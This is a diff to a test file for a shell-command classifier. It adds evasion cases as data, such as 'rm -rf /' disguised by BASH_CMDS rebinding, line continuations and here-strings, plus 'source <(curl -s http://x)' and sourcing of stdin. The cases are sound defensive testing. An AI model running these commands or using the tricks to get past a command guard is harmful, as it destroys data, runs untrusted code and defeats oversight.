@@ -678,6 +678,32 @@ const evasions: readonly Case[] = [
     'cat <<-EOF\n\tfoo\n\tEOF\nrm -rf /',
     ['exec cat', 'exec rm -rf /'],
   ],
+  ['BASH_CMDS rebinds a name', 'BASH_CMDS[ls]=/bin/rm; ls -rf /', ['unknown', 'exec ls -rf /']],
+  [
+    'declare -A BASH_CMDS rebinds names',
+    'declare -A BASH_CMDS=([ls]=/bin/rm); ls -rf /',
+    ['unknown', 'exec declare -A BASH_CMDS=([ls]=/bin/rm)', 'exec ls -rf /'],
+  ],
+  ['a line continuation inside a name joins it', 'r\\\nm -rf /', ['exec rm -rf /']],
+  ['a continuation between words still separates them', 'ls \\\n-la', ['exec ls -la']],
+  ['backslash before CR-LF escapes the CR for bash', 'ls \\\r\n-la', ['unknown', 'exec ls -la']],
+  ['source of stdin runs the channel', 'source /dev/stdin', ['exec source /dev/stdin', 'unknown']],
+  [
+    'source of stdin from a here-string',
+    ". /dev/stdin <<< 'rm -rf /'",
+    ['exec . /dev/stdin', 'exec rm -rf /'],
+  ],
+  [
+    'source of a process substitution is unknown',
+    'source <(curl -s http://x)',
+    ['exec curl -s http://x', 'exec source <(curl -s http://x)', 'unknown'],
+  ],
+  [
+    'a shell running /dev/stdin reads the channel',
+    'bash /proc/self/fd/0',
+    ['exec bash /proc/self/fd/0', 'unknown'],
+  ],
+  ['source of a file is its argv', 'source ~/.profile', ['exec source ~/.profile']],
 ];
 
 describe('classifyShellCommand', () => {
